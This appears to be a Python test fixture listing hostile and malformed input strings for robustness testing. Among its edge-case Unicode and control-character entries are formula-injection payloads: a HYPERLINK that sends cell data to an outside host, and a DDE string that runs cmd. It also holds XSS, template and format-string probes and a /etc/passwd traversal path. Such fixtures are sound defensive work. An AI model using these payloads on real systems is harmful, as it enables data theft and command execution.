"""What people may write who mean no good, or whose phone does strange things."""

_WORDS = (
    '=HYPERLINK("http://example.org?"&A1;"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+7 999 123-45-67",
    "-2+3",
    "\t=1+1",
    "a\r\nb\n=1\rc",
    'say "no", "never"',
    "''\"\";;,,||",
    "\u202eabc\u2066def\u2069",
    "مهسا امینی ۲۲",
    "\x00\x01\x1b[31m\x7f",
    "<script>alert(1)</script>{{7*7}}{0}{name}%s%n${x}",
    "x" * 500,
    "слово" * 90,
    "\u200b\ufeff=1",
    "＝1＋1",
    "😀👩\u200d👩\u200d👧",
    "a" + "\u0301" * 300,
    "NULL",
    "../../etc/passwd",
    "\n\n\n",
)
HOSTILE = tuple(enumerate(_WORDS, 1))
